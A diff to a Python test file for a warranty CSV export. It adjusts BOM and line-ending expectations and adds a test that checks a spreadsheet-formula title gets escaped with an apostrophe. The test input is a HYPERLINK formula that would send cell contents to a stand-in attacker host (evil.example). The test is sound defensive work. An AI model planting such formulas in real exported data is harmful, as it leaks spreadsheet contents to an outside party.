@@ -315,7 +315,7 @@ def test_2b_a_store_exports_its_warranties_as_csv(client: Client) -> None:
     rest = client.http.get(link[1 : link.index(">")])
 
     assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
-    names, row = csv.reader(io.StringIO(answer.body.decode(), newline=""))
+    names, row = csv.reader(io.StringIO(answer.body.decode("utf-8-sig"), newline=""))
     assert names == SHAPE
     told = dict(zip(names, row, strict=True))
     assert (told["item_cost"], told["warranty_price"]) == ("150.00", "20.00")
@@ -325,7 +325,21 @@ def test_2b_a_store_exports_its_warranties_as_csv(client: Client) -> None:
 
 
 def test_a_store_without_warranties_exports_the_names_alone(client: Client) -> None:
-    assert get(client, "/stores/none/warranties.csv").body.decode().strip() == ",".join(SHAPE)
+    assert (
+        get(client, "/stores/none/warranties.csv").body.decode()
+        == "\ufeff" + ",".join(SHAPE) + "\r\n"
+    )
+
+
+def test_a_title_that_would_be_a_formula_is_a_text_in_a_spreadsheet(client: Client) -> None:
+    title = '=HYPERLINK("https://evil.example/"&A1)'
+    post(client, item_title=title)
+
+    answer = get(client, f"/stores/{SOFA['store_uuid']}/warranties.csv")
+    row = next(csv.DictReader(io.StringIO(answer.body.decode("utf-8-sig"), newline="")))
+
+    assert (row["item_title"], row["item_cost"]) == (f"'{title}", "150.00")
+    assert get(client, "/warranties").json_body[0]["item_title"] == title
 
 
 def test_a_store_that_is_none_is_400(client: Client) -> None:
